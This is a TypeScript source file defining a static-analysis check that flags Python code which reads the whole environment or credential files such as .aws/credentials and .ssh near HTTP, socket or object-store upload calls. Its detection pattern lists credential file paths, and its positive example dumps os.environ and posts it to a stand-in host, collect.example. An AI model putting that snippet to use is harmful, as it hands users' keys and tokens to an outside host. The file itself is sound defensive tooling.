import type { FunctionDef } from "../../formats/python/nodes.ts";
import type { PythonCall } from "../../formats/python/values.ts";
import { defineCheck } from "../define.ts";

/** Calls that carry what they are given to another host. */
const senders = [
  "urllib.request.urlopen",
  "urllib.request.Request",
  "urllib.request.urlretrieve",
  ...["requests", "httpx"].flatMap((library) =>
    ["get", "post", "put", "patch", "request"].map((method) => `${library}.${method}`),
  ),
  "http.client.HTTPSConnection",
  "http.client.HTTPConnection",
  "socket.create_connection",
  "socket.socket",
];

/** Methods of clients of object stores that do the same. */
const uploads = ["put_object", "upload_fileobj", "upload_from_string", "upload_blob"];

/** The environment as a whole, and files that hold credentials. */
const everything =
  /\bdict\(\s*os\.environ\s*\)|\bos\.environ\.(?:items|values)\(|\*\*os\.environ\b|\b(?:str|repr|dumps|list|sorted|urlencode)\(\s*(?:dict\(\s*)?os\.environ\s*[,)]|\bfor\s+\w+\s+in\s+os\.environ\b|\bos\.environb\b|["'/~](?:\.ssh\/|\.aws\/(?:credentials|config)|\.netrc|\.git-credentials|\.docker\/config\.json|\.kube\/config|\.huggingface\/token|\.cache\/huggingface\/token|\.pypirc|\.config\/gcloud)|\/etc\/(?:passwd|shadow)\b/;

const longest = 64 * 1024;

/** The outermost function that a call stands in; undefined at the top of a module. */
function around({ scope }: PythonCall): FunctionDef | undefined {
  let found: FunctionDef | undefined;
  for (let here: PythonCall["scope"] | null = scope; here !== null; here = here.parent)
    if (here.node.kind === "FunctionDef") found = here.node;
  return found;
}

export const environmentSent = defineCheck({
  meta: {
    id: "environment-sent",
    code: "PV-CODE-708",
    title:
      "The environment or files with credentials are read where something is sent to another host",
    asset: "python",
    severity: "high",
    confidence: "medium",
    audience: "default",
    aliases: [],
    controls: ["CWE-200", "CWE-522", "OWASP-LLM02:2025", "ATLAS:AML.T0055"],
    why: "Keys and tokens stand in the environment and in files such as `.aws/credentials`; code that reads all of them and speaks to another host hands them over.",
    mend: "Find out where the code comes from. Where it is your own, send only the values that are needed, by name.",
    blind:
      "What is read in one function and sent in another, or beside a program that is given an environment.",
    since: "0.1.0",
    examples: {
      found: [
        {
          code: 'import os, json, urllib.request\n\ndef report():\n    body = json.dumps(dict(os.environ)).encode()\n    urllib.request.urlopen("https://collect.example/x", data=body)\n',
        },
      ],
      clean: [
        {
          code: 'import os, urllib.request\n\ndef fetch():\n    url = os.environ["WEIGHTS_URL"]\n    return urllib.request.urlopen(url).read()\n',
        },
      ],
    },
  },
  wants: (file) => file.mentions("environ") || file.mentions("/."),
  run: ({ calls, methods, text }, report) => {
    const told = new Set<FunctionDef | undefined>();
    for (const call of [...calls(...senders), ...methods(...uploads)]) {
      const within = around(call);
      if (told.has(within)) continue;
      const near =
        within === undefined
          ? text.slice(Math.max(0, call.start - 4_000), call.end + 2_000)
          : text.slice(within.start, Math.min(within.end, within.start + longest));
      // The environment of a program that is started.
      if (!everything.test(near) || /\benv\s*=/.test(near)) continue;
      told.add(within);
      report(call);
    }
  },
});
